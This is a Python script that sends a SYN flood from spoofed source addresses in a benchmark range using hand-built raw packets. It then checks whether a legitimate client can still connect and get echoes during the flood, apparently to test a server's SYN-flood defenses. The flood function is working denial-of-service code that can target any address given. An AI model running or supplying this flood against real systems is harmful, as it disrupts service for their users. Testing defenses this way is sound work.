#!/usr/bin/env python3
"""A SYN flood from spoofed sources, and what a legitimate client sees.

usage: syn_flood.py check DST PORT [COUNT [RATE]]
  Opens a connection to DST:PORT and echoes over it; starts a flood of
  COUNT (40,000) SYNs at RATE (20,000) per second from spoofed sources in
  198.19.0.0/16 that never answer; then, while it runs and after it, opens
  new connections and echoes over each, and over the first one. Each new
  connection must be up and echo within 1 s; exits 1 otherwise.
usage: syn_flood.py flood DST PORT COUNT RATE
  The flood alone (a raw socket).
usage: syn_flood.py serve PORT SECONDS
  A threaded TCP echo server with a backlog of 255 (the demo's), for the
  kernel's turn; stops after SECONDS."""
import random
import socket
import struct
import subprocess
import sys
import threading
import time

LIMIT_S = 1.0


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def syn(src, dst, sport, dport, seq):
    opts = struct.pack("!BBH", 2, 4, 1460)  # MSS
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + 1) << 4, 0x02,
                      64240, 0, 0) + opts
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


def flood(dst, port, count, rate):
    d = socket.inet_aton(dst)
    rnd = random.Random(7)
    pkts = [syn(struct.pack("!BBBB", 198, 19, rnd.randrange(256), rnd.randrange(1, 255)),
                d, rnd.randrange(1024, 65536), port, rnd.randrange(1 << 32))
            for _ in range(count)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    for i, p in enumerate(pkts):
        s.sendto(p, (dst, 0))
        if i % 200 == 199:  # pace in batches of 200
            ahead = (i + 1) / rate - (time.monotonic() - start)
            if ahead > 0:
                time.sleep(ahead)
    took = time.monotonic() - start
    print("flood: %d SYNs in %.2f s (%d/s)" % (count, took, count / took), flush=True)


def echo(s, word):
    s.sendall(word)
    got = b""
    while len(got) < len(word):
        chunk = s.recv(len(word) - len(got))
        if not chunk:
            break
        got += chunk
    return got == word


def fresh(dst, port):
    t0 = time.monotonic()
    try:
        s = socket.create_connection((dst, port), timeout=LIMIT_S)
        s.settimeout(LIMIT_S)
        ok = echo(s, b"fresh connection")
        s.close()
    except OSError:
        ok = False
    return ok, time.monotonic() - t0


def check(dst, port, count, rate):
    first = socket.create_connection((dst, port), timeout=5)
    first.settimeout(LIMIT_S)
    if not echo(first, b"before the flood"):
        print("no echo before the flood")
        return 1
    proc = subprocess.Popen([sys.executable, __file__, "flood", dst, str(port),
                             str(count), str(rate)])
    bad = 0
    time.sleep(0.5)  # the SYN queue is full by now
    for i in range(6):
        ok, took = fresh(dst, port)
        still = echo(first, b"established %d" % i)
        print("during/after the flood: new connection %s in %.3f s, the first %s"
              % ("echoes" if ok else "FAILED", took, "echoes" if still else "FAILED"),
              flush=True)
        bad += (not ok) + (not still) + (took > LIMIT_S)
        time.sleep(0.4)
    proc.wait(timeout=60)
    first.close()
    return 1 if bad or proc.returncode != 0 else 0


def serve(port, seconds):
    def one(c):
        with c:
            while True:
                b = c.recv(4096)
                if not b:
                    return
                c.sendall(b)

    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("0.0.0.0", port))
    ls.listen(255)
    ls.settimeout(1)
    print("ready", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            c, _ = ls.accept()
        except socket.timeout:
            continue
        threading.Thread(target=one, args=(c,), daemon=True).start()


if __name__ == "__main__":
    a = sys.argv
    if len(a) in (4, 5, 6) and a[1] == "check":
        sys.exit(check(a[2], int(a[3]), int(a[4]) if len(a) > 4 else 40000,
                       int(a[5]) if len(a) > 5 else 20000))
    elif len(a) == 4 and a[1] == "serve":
        serve(int(a[2]), int(a[3]))
    elif len(a) == 6 and a[1] == "flood":
        flood(a[2], int(a[3]), int(a[4]), int(a[5]))
    else:
        sys.exit(__doc__)
